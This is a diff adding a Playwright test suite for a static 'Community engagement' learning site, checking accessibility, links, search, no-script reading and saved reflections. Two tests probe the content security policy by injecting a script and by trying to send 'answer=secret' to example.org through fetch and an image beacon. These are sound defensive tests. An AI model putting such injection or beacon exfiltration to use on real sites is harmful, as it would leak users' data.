@@ -1,0 +1,167 @@
+"""The site that is published, page by page: reachable, private, accessible, searchable, and usable without script."""
+
+import re
+
+import pytest
+from playwright.sync_api import expect
+from published_site import PublishedSite, build_published
+from reading_site import BROWSER, words
+
+AXE = (BROWSER / "node_modules/axe-core/axe.min.js").read_text("utf-8")
+RULES = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]
+
+
+@pytest.fixture(scope="module")
+def published(tmp_path_factory):
+    made = PublishedSite(build_published(tmp_path_factory.mktemp("published")))
+    yield made
+    made.close()
+
+
+@pytest.fixture
+def log(page, published):
+    """Every request of the page with its answer's status; none may leave the site."""
+    answers = []
+    page.on("response", lambda answer: answers.append((answer.status, answer.url)))
+    page.on("requestfailed", lambda request: answers.append((0, request.url)))
+    return answers
+
+
+@pytest.mark.parametrize("look", ["light", "dark"])
+@pytest.mark.parametrize("width", [390, 1280])
+def test_axe_finds_nothing_on_any_page(page, published, look, width):
+    page.set_viewport_size({"width": width, "height": 900})
+    page.emulate_media(color_scheme=look)
+    found = {}
+    for address in published.pages():
+        page.goto(published.root + address)
+        page.evaluate(AXE)
+        violations = page.evaluate("rules => axe.run({ runOnly: rules })", RULES)["violations"]
+        if violations:
+            found[address] = [(rule["id"], [node["html"][:200] for node in rule["nodes"]]) for rule in violations]
+    assert found == {}
+
+
+@pytest.mark.parametrize("width", [320, 390, 1280])
+def test_no_page_scrolls_sideways(page, published, width):
+    page.set_viewport_size({"width": width, "height": 900})
+    wide = []
+    for address in published.pages():
+        page.goto(published.root + address)
+        if page.evaluate("document.documentElement.scrollWidth > innerWidth"):
+            wide.append(address)
+    assert wide == []
+
+
+def test_no_page_asks_anything_of_another_site_and_everything_it_asks_for_is_there(page, published, log):
+    for address in published.pages():
+        page.goto(published.root + address, wait_until="networkidle")
+    elsewhere = {url for _, url in log if not url.startswith((published.root, "data:", "blob:"))}
+    assert elsewhere == set()
+    assert {answer for answer in log if answer[0] not in (200, 304)} == set()
+    assert len(log) > 3 * len(published.pages())
+
+
+def test_every_link_inside_the_module_leads_to_a_page_and_a_place_on_it(page, published):
+    links, ids = {}, {}
+    for address in published.pages():
+        page.goto(published.root + address)
+        ids[published.root + address] = set(page.evaluate("[...document.querySelectorAll('[id]')].map(e => e.id)"))
+        links[address] = page.evaluate("[...document.querySelectorAll('a[href]')].map(a => a.href)")
+    broken = []
+    for address, targets in links.items():
+        for target in targets:
+            place, _, anchor = target.partition("#")
+            place = place.partition("?")[0]
+            if not target.startswith(published.origin):
+                continue
+            a_file = (published.site / place.removeprefix(published.root)).is_file()
+            if not a_file and (place not in ids or (anchor and anchor not in ids[place])):
+                broken.append((address, target))
+    assert broken == []
+
+
+def test_an_address_that_is_not_there_shows_our_page_with_its_looks_and_a_way_home(page, published, log):
+    answer = page.goto(published.root + "no/such/page/", wait_until="networkidle")
+    assert answer.status == 404
+    styles = [status for status, url in log if url.endswith(".css")]
+    assert styles and set(styles) == {200}
+    page.get_by_role("link", name="Community engagement").first.click()
+    expect(page).to_have_url(published.root)
+    expect(page.locator("h1").first).to_have_text("Community engagement")
+
+
+def test_search_finds_a_word_and_leads_to_its_section(page, published):
+    page.goto(published.root)
+    page.get_by_role("link", name="Search").click()
+    page.get_by_role("textbox", name="Search").fill("thriving")
+    hit = page.locator(".md-search-result__link").first
+    expect(hit).to_be_visible()
+    hit.click()
+    expect(page.locator("main")).to_contain_text(re.compile("thriving", re.IGNORECASE))
+    expect(page).to_have_url(re.compile("^" + re.escape(published.root) + r"(?!search)"))
+
+
+def test_the_policy_stops_a_script_that_slipped_in(context, published):
+    page = context.new_page()
+    page.goto(published.root)
+    stopped = page.evaluate(
+        """() => new Promise(resolve => {
+            document.addEventListener('securitypolicyviolation', event => resolve(event.effectiveDirective));
+            const script = document.createElement('script');
+            script.textContent = 'window.slippedIn = true';
+            document.body.append(script);
+        })"""
+    )
+    assert stopped.startswith("script-src")
+    assert page.evaluate("window.slippedIn") is None
+
+
+def test_the_policy_lets_nothing_be_sent_elsewhere(context, published):
+    page = context.new_page()
+    page.goto(published.root)
+    sent = page.evaluate("fetch('https://example.org/', { mode: 'no-cors' }).then(() => 'sent', () => 'refused')")
+    assert sent == "refused"
+    stopped = page.evaluate(
+        """() => new Promise(resolve => {
+            document.addEventListener('securitypolicyviolation', event => resolve(event.effectiveDirective));
+            const picture = new Image();
+            picture.src = 'https://example.org/?answer=secret';
+        })"""
+    )
+    assert stopped == "img-src"
+
+
+def test_without_script_a_section_reads_takes_writing_and_says_it_is_not_kept(browser, published):
+    context = browser.new_context(java_script_enabled=False)
+    page = context.new_page()
+    page.goto(published.root + "why/")
+    box = page.locator("reflection-box").first
+    box.locator("textarea").fill("Written without script")
+    expect(box.locator("textarea")).to_have_value("Written without script")
+    expect(box.locator(".reflection-noscript")).to_have_text(words()["box"]["noscript"])
+    expect(box.locator(".reflection-noscript")).to_be_visible()
+    page.get_by_role("link", name="Next").first.click()
+    expect(page).not_to_have_url(published.root + "why/")
+    context.close()
+
+
+def test_without_script_no_page_hides_its_words(browser, published):
+    context = browser.new_context(java_script_enabled=False)
+    page = context.new_page()
+    for section in ("", "definition/", "why/", "what/", "how/", "workbook/", "about/"):
+        page.goto(published.root + section)
+        assert len(page.locator("main").inner_text()) > 200, section
+    context.close()
+
+
+def test_a_written_answer_is_there_after_coming_back_below_the_sub_path(page, published):
+    page.goto(published.root + "why/")
+    box = page.locator("reflection-box").first
+    box.locator("textarea").fill("A grandmother at the door")
+    expect(box.locator(".reflection-status")).to_have_text(words()["box"]["saved"])
+    page.goto(published.root)
+    page.goto(published.root + "why/")
+    expect(box.locator("textarea")).to_have_value("A grandmother at the door")
+    page.goto(published.root + "workbook/")
+    expect(page.locator("main")).to_contain_text("A grandmother at the door")
